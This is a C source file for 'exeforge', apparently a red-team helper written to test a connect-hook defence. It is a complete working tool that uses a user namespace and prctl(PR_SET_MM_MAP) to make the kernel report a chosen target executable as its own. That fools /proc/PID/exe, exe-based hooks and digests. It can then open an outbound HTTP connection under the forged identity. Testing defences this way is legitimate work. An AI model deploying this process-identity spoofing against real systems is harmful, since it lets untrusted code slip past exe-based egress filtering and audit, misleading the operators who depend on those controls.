// exeforge: red-team helper (issue 16 round 2). A program that makes the
// kernel report another executable as its own: it copies its image into
// anonymous memory, unmaps the file it was started from, and sets
// mm->exe_file to TARGET with prctl(PR_SET_MM, PR_SET_MM_MAP, exe_fd),
// which needs CAP_CHECKPOINT_RESTORE (or CAP_SYS_ADMIN) only in the
// caller's user namespace: an unshare(CLONE_NEWUSER) gives it. Then
// /proc/PID/exe, the connect hook's record (mm->exe_file) and the digest
// all name TARGET, while the code running is this program's.
//
//   exeforge TARGET -                 forge, say "ready", block on stdin
//   exeforge TARGET IPV4 PORT PATH    forge, then GET PATH and print the reply
//
// Build: cc -O1 -static -nostdlib -fno-stack-protector -fPIC -o exeforge exeforge.c
typedef unsigned long u64;
typedef unsigned int u32;

static long sys6(long n, long a, long b, long c, long d, long e, long f) {
	long r;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	register long r9 __asm__("r9") = f;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
	return r;
}
static long sys(long n, long a, long b, long c, long d, long e) { return sys6(n, a, b, c, d, e, 0); }
#define SYS_read 0
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_mmap 9
#define SYS_munmap 11
#define SYS_brk 12
#define SYS_socket 41
#define SYS_connect 42
#define SYS_exit_group 231
#define SYS_prctl 157
#define SYS_unshare 272

extern char __ehdr_start[];
extern char _end[];

static u64 slen(const char *s) { u64 n = 0; while (s[n]) n++; return n; }
static void out(const char *s) { sys(SYS_write, 1, (long)s, slen(s), 0, 0); }
static void outn(long v) {
	char b[24]; int i = 23; int neg = v < 0; u64 u = neg ? -v : v;
	b[i] = 0;
	do { b[--i] = '0' + u % 10; u /= 10; } while (u);
	if (neg) b[--i] = '-';
	out(b + i);
}
static u64 num(const char *s) { u64 v = 0; while (*s >= '0' && *s <= '9') v = v * 10 + (*s++ - '0'); return v; }

struct prctl_mm_map {
	u64 start_code, end_code, start_data, end_data, start_brk, brk, start_stack, arg_start, arg_end, env_start, env_end;
	u64 *auxv;
	u32 auxv_size, exe_fd;
};

struct args { char **argv; int argc; };

__attribute__((noreturn, noinline)) static void stage2(struct args *a, u64 oldbase, u64 oldlen) {
	// Running from the anonymous copy: the file can go.
	long r = sys(SYS_munmap, oldbase, oldlen, 0, 0, 0);
	if (r) { out("munmap="); outn(r); out("\n"); }
	char st[2048];
	long fd = sys(SYS_open, (long)"/proc/self/stat", 0, 0, 0, 0);
	long n = sys(SYS_read, fd, (long)st, sizeof st - 1, 0, 0);
	sys(SYS_close, fd, 0, 0, 0, 0);
	st[n > 0 ? n : 0] = 0;
	// Fields after the last ')': field 3 is index 0.
	char *p = st, *last = st;
	for (; *p; p++) if (*p == ')') last = p;
	u64 f[64] = {0};
	int i = 3;
	for (p = last + 2; *p && i < 64; i++) {
		f[i] = num(p);
		while (*p && *p != ' ') p++;
		if (*p) p++;
	}
	struct prctl_mm_map m = {0};
	m.start_code = f[26]; m.end_code = f[27]; m.start_stack = f[28];
	m.start_data = f[45]; m.end_data = f[46]; m.start_brk = f[47];
	m.arg_start = f[48]; m.arg_end = f[49]; m.env_start = f[50]; m.env_end = f[51];
	m.brk = sys(SYS_brk, 0, 0, 0, 0, 0);
	long tfd = sys(SYS_open, (long)a->argv[1], 0, 0, 0, 0);
	m.exe_fd = (u32)tfd;
	r = sys(SYS_prctl, 35 /* PR_SET_MM */, 14 /* PR_SET_MM_MAP */, (long)&m, sizeof m, 0);
	out("prctl="); outn(r); out("\n");
	if (a->argv[2][0] == '-') {
		out("ready\n");
		char c;
		while (sys(SYS_read, 0, (long)&c, 1, 0, 0) > 0) {}
		sys(SYS_exit_group, 0, 0, 0, 0, 0);
	}
	// Connect to IPV4:PORT and GET PATH.
	u32 ip = 0; const char *s = a->argv[2];
	for (int k = 0; k < 4; k++) { ip |= (u32)num(s) << (8 * k); while (*s && *s != '.') s++; if (*s) s++; }
	u64 port = num(a->argv[3]);
	struct { unsigned short fam; unsigned short port; u32 addr; char z[8]; } sa = {2, (unsigned short)((port >> 8) | ((port & 0xff) << 8)), ip, {0}};
	long so = sys(SYS_socket, 2, 1, 0, 0, 0);
	r = sys(SYS_connect, so, (long)&sa, sizeof sa, 0, 0);
	if (r) { out("connect="); outn(r); out("\n"); sys(SYS_exit_group, 1, 0, 0, 0, 0); }
	char req[1024]; u64 q = 0;
	const char *parts[] = {"GET ", a->argv[4], " HTTP/1.0\r\nHost: ", a->argv[2], ":", a->argv[3], "\r\n\r\n"};
	for (int k = 0; k < 7; k++) for (const char *c = parts[k]; *c && q < sizeof req; c++) req[q++] = *c;
	sys(SYS_write, so, (long)req, q, 0, 0);
	char buf[4096];
	while ((n = sys(SYS_read, so, (long)buf, sizeof buf, 0, 0)) > 0) sys(SYS_write, 1, (long)buf, n, 0, 0);
	out("\n");
	sys(SYS_exit_group, 0, 0, 0, 0, 0);
	for (;;) {}
}

__attribute__((noreturn, used)) void entry(long *sp) {
	struct args a = {(char **)(sp + 1), (int)sp[0]};
	if (a.argc < 3) { out("usage\n"); sys(SYS_exit_group, 2, 0, 0, 0, 0); }
	long r = sys(SYS_unshare, 0x10000000 /* CLONE_NEWUSER */, 0, 0, 0, 0);
	if (r) { out("unshare="); outn(r); out("\n"); }
	u64 base = (u64)__ehdr_start & ~4095UL;
	u64 len = (((u64)_end + 4095) & ~4095UL) - base;
	char *cp = (char *)sys6(SYS_mmap, 0, len, 7, 0x22 /* MAP_PRIVATE|MAP_ANONYMOUS */, -1, 0);
	for (u64 k = 0; k < len; k++) cp[k] = ((char *)base)[k];
	void (*s2)(struct args *, u64, u64) = (void (*)(struct args *, u64, u64))((char *)stage2 - (char *)base + cp);
	s2(&a, base, len);
	for (;;) {}
}

__asm__(".globl _start\n_start:\n mov %rsp, %rdi\n and $-16, %rsp\n call entry\n hlt\n");
